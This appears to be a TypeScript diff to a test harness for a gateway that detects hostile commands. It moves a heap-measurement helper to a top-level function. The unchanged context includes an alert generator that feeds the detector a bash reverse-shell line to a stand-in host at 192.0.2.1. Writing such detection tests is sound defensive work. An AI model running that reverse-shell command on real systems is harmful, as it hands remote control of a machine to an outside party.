@@ -15,6 +15,12 @@ export const MEGABYTE = 1_048_576;
 setFlagsFromString('--expose_gc');
 const collectGarbage = runInNewContext('gc') as () => void;
 
+/** Bytes in use, after a collection of garbage. */
+export function heap(): number {
+  collectGarbage();
+  return process.memoryUsage().heapUsed;
+}
+
 /** What an idle gateway starts, with a number that makes each line new. */
 const HARMLESS = [
   (number: number) => `curl -fsS --max-time 10 https://example.com/health?n=${number}`,
@@ -78,11 +84,6 @@ export function forward() {
     async alerts(count: number): Promise<void> {
       for (let index = 0; index < count; index += 1)
         await take(`/tmp/x${number}/bash`, `bash -c bash -i >& /dev/tcp/192.0.2.1/${number % 65_536} 0>&1`);
-    },
-    /** Bytes in use, after a collection of garbage. */
-    heap(): number {
-      collectGarbage();
-      return process.memoryUsage().heapUsed;
     },
     accounts: (): AlertAccounts => alerts.accounts(),
     unjudged: (): string | undefined => detections.status().problem,
